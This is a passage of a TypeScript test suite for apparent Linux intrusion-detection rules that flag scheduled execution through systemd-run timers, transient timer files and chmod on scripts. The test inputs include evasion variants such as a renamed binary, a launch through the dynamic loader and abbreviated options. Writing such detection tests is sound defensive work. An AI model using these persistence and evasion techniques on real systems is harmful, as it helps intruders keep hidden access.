    expect(sees(wrote(`rename ${path} by /usr/bin/dpkg`), run)).toBe(false);
  });

  it.each<[string, Run]>([
    ['at a prompt', { line: '-bash', leads: true }],
    ['by a program that calls a shell', { leads: false }],
    ['by a service that is local', { parent: '/usr/lib/systemd/systemd', line: '/sbin/init', leads: false }],
    ['elsewhere', { path: '/opt/other' }],
  ])('leaves what is executed %s', (_, run) => expect(sees(wrote(), ran(run))).toBe(false));

  it.each<[string, string, string | undefined, boolean]>([
    ['which nobody might', '0755', '0644', true],
    ['which everybody might', '0700', '0755', false],
    ['nobody knows which', '0755', undefined, false],
    ['and takes that away', '0644', '0755', false],
  ])('sees who makes a program executable %s, from %s on: was %s', (_, mode, was, isSeen) => {
    const set = wrote(`permissions ${script} by /usr/bin/chmod`) as object as { file: object };
    const before = was && { Ext: { original: { mode: was } } };
    expect(sees({ ...set, file: { ...set.file, mode, ...before } }, ran({}))).toBe(isSeen);
  });

  it('leaves what was executed before it was written', () => {
    expect(sees(ran({}), { ...wrote(), '@timestamp': '2026-01-01T00:20:00Z' })).toBe(false);
  });
});

describe('transient-timer-written', () => {
  it.each([
    'creation /run/systemd/transient/x.timer by /usr/lib/systemd/systemd',
    // Where /lib is no link.
    'creation /run/systemd/transient/x.timer by /lib/systemd/systemd',
    'creation /run/user/1000/systemd/transient/run-r0.timer by /usr/lib/systemd/systemd',
  ])('sees %s', (text) => expect(firing(file(text))).toEqual(['transient-timer-written']));

  it.each([
    'creation /run/systemd/transient/x.service by /usr/lib/systemd/systemd',
    'creation /run/systemd/transient/x.service by /lib/systemd/systemd',
    'creation /run/systemd/transient/session-c1.scope by /usr/lib/systemd/systemd',
  ])('leaves %s', (text) => expect(firing(file(text))).toEqual([]));
});

describe('systemd-run-scheduled and systemd-run-timer', () => {
  const run = (...args: string[]) => firing(exec('/usr/bin/systemd-run', ['systemd-run', ...args]));
  const both = ['systemd-run-scheduled', 'systemd-run-timer'];

  it('know it by its options, whatever it is called and whatever starts it', () => {
    expect(firing(exec('/var/lib/svcstat', ['svcstat', '--on-active=5', 'true']))).toEqual(both);
    expect(firing(exec('/var/lib/svcstat', ['svcstat', '-q', '--user', '--on-calendar=daily', 'x']))).toEqual(
      both,
    );
    const loader = ['/lib64/ld-linux-x86-64.so.2', '/usr/bin/systemd-run', '--on-boot=1', 'x'];
    expect(firing(exec('/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2', loader))).toEqual(both);
    expect(firing(exec('/usr/bin/dash', ['sh', '-c', 'echo systemd-run --on-active=5 true']))).toEqual([]);
    expect(firing(exec('/usr/bin/make', ['make', '--on-error=stop']))).toEqual([]);
  });

  it.each([
    ['--on-active=1s', 'id'],
    ['--user', '--on-calendar', '*:0/1', 'id'],
    ['--unit=x', '--on-boot=1min', 'id'],
    ['--on-clock-change', 'id'],
    // Abbreviated, and as raw properties.
    ['--on-ca', 'daily', 'id'],
    ['--timer-property=OnActiveSec=1s', 'id'],
    ['--timer-p', 'OnUnitActiveSec=1s', 'id'],
    ['--t=OnCalendar=daily', 'id'],
    ['--timer-property', 'OnTimezoneChange=yes', 'id'],
  ])('both see %s %s %s', (...args) => expect(run(...args.filter(Boolean))).toEqual(both));

  it.each([
    ['--scope', '-p', 'CPUQuota=10%', 'make'],
    ['--user', '--unit=app', 'firefox'],
    ['--timer-property=AccuracySec=1s', 'id'],
    ['--property=OnFailure=x.service', 'id'],
    ['-p', 'OnSuccess=x.service', 'id'],
    ['--version'],
  ])('both leave %s %s %s %s', (...args) => expect(run(...args.filter(Boolean))).toEqual([]));
});

describe('none of them', () => {
  it.each([
    ['/usr/bin/systemctl', ['systemctl', 'list-timers', '--all']],
    ['/usr/bin/systemctl', ['systemctl', 'enable', '--now', 'x.timer']],
    ['/usr/bin/run-parts', ['run-parts', '--report', '/etc/cron.daily']],
    ['/usr/sbin/cron', ['/usr/sbin/cron', '-f']],
    ['/usr/bin/cat', ['cat', '/etc/crontab']],
  ])('fires on %s', (executable, args) => expect(firing(exec(executable, args))).toEqual([]));
});
